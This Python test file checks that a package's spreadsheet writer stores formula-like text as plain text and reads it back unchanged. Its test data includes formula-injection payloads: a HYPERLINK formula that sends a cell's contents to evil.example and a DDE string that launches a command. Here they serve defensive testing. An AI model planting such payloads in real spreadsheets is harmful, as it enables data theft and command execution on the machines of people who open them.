"""The kernel's one spreadsheet writer (dudao/core/spreadsheets.py): every text is stored as
text, whatever it begins with, and reads back unchanged; no module writes a workbook any
other way."""

import ast
import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

import dudao
from dudao.core import spreadsheets
from dudao.core.spreadsheets import Column, build_workbook, new_workbook, workbook_bytes

PACKAGE = Path(dudao.__file__).resolve().parent
KERNEL = PACKAGE / "core" / "spreadsheets.py"

TRICKY = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "=1+1",
    "+86 138 0000 0000",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "  =cmd|' /C calc'!A0",
    "\u3000=1",
    "#N/A",
    "#DIV/0!",
    "'=1",
    "=",
    "实验小学",
    "0571-88880001",
]


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as zf:
        return "".join(zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/"))


@pytest.mark.parametrize(
    "text,risky",
    [
        ("=1", True),
        ("+1", True),
        ("-1", True),
        ("@x", True),
        ("\tx", True),
        ("\rx", True),
        (" =1", True),
        ("\u3000+1", True),
        ("a=1", False),
        ("实验小学", False),
        ("", False),
        ("0571-88880001", False),
    ],
)
def test_what_looks_like_a_formula(text, risky):
    assert spreadsheets.looks_like_formula(text) is risky


def test_tricky_texts_are_written_as_texts_and_read_back_unchanged():
    columns = [Column("文本", "text", width=30)]
    content = workbook_bytes(build_workbook(columns, [[t] for t in TRICKY]))
    assert not re.search(r"<f[\s>/]", _sheet_xml(content))
    ws = load_workbook(io.BytesIO(content)).worksheets[0]
    cells = {c.value: c for (c,) in ws.iter_rows(min_row=2, max_col=1)}
    for text in TRICKY:
        cell = cells[text]
        assert cell.data_type == "s"
        assert cell.quotePrefix is spreadsheets.looks_like_formula(text), text
    rows = spreadsheets.read_table(content, ["文本"], formulas="refuse")
    assert [r["文本"] for _n, r in rows] == TRICKY


def test_a_value_set_directly_on_a_cell_is_protected_when_saved(tmp_path):
    wb = new_workbook()
    ws = wb.active
    ws["A1"] = "=1+1"  # openpyxl takes this for a formula
    ws["A2"] = "#REF!"  # and this for an error
    ws["A3"] = 42
    assert ws["A1"].data_type == "f"
    path = tmp_path / "out.xlsx"
    wb.save(path)
    saved = load_workbook(path).active
    assert (saved["A1"].value, saved["A1"].data_type) == ("=1+1", "s")
    assert (saved["A2"].value, saved["A2"].data_type) == ("#REF!", "s")
    assert saved["A3"].value == 42


def test_characters_xml_cannot_hold_are_dropped_instead_of_failing_the_export():
    wb = new_workbook()
    spreadsheets.append(wb.active, ["a\x01b\x0bc", 1])
    spreadsheets.put(wb.active, 2, 1, "=x\x1f")
    ws = load_workbook(io.BytesIO(workbook_bytes(wb))).active
    assert ws["A1"].value == "abc" and ws["B1"].value == 1
    assert ws["A2"].value == "=x" and ws["A2"].data_type == "s"


def test_write_rows_writes_as_put_does_with_one_style_per_kind():
    """`write_rows` (long tables: the ledger export) keeps texts as texts, drops what XML
    cannot hold, keeps numbers, dates and blanks, and gives each cell its own copy of the
    style, so one cell's quote prefix is not every cell's."""
    import datetime

    from openpyxl.cell.cell import Cell
    from openpyxl.styles import Font

    wb = new_workbook()
    ws = wb.active
    plain = Cell(ws)
    plain.font = Font(bold=True)
    dated = Cell(ws)
    dated.number_format = "yyyy-mm-dd"
    day = datetime.date(2026, 2, 28)
    rows = [[text, 7, day, None, "a\x01b"] for text in TRICKY]
    spreadsheets.write_rows(
        ws, 2, rows, lambda v: dated._style if isinstance(v, datetime.date) else plain._style
    )
    content = workbook_bytes(wb)
    assert not re.search(r"<f[\s>/]", _sheet_xml(content))
    saved = load_workbook(io.BytesIO(content)).active
    for number, text in enumerate(TRICKY, 2):
        cell = saved.cell(number, 1)
        assert (cell.value, cell.data_type) == (text, "s")
        assert cell.quotePrefix is spreadsheets.looks_like_formula(text), text
        assert cell.font.b
        assert saved.cell(number, 2).value == 7 and not saved.cell(number, 2).quotePrefix
        assert saved.cell(number, 3).value.date() == day
        assert saved.cell(number, 3).number_format == "yyyy-mm-dd"
        assert saved.cell(number, 4).value is None
        assert saved.cell(number, 5).value == "ab"


def test_no_module_makes_or_saves_a_workbook_outside_the_kernel():
    """Workbooks come from `new_workbook`/`build_workbook` (whose save protects every text);
    nobody imports openpyxl's Workbook, its writer or its reader elsewhere."""
    forbidden = {"Workbook", "load_workbook", "save_workbook", "save_virtual_workbook"}
    found = []
    for path in PACKAGE.rglob("*.py"):
        if path == KERNEL:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
                names = {alias.name for alias in node.names}
                if names & forbidden or node.module.startswith(
                    ("openpyxl.writer", "openpyxl.reader")
                ):
                    found.append(f"{path.relative_to(PACKAGE)}:{node.lineno}")
            elif (
                isinstance(node, ast.Attribute)
                and node.attr in forbidden
                and isinstance(node.value, ast.Name)
                and node.value.id == "openpyxl"
            ):
                found.append(f"{path.relative_to(PACKAGE)}:{node.lineno}")
    assert not found, found
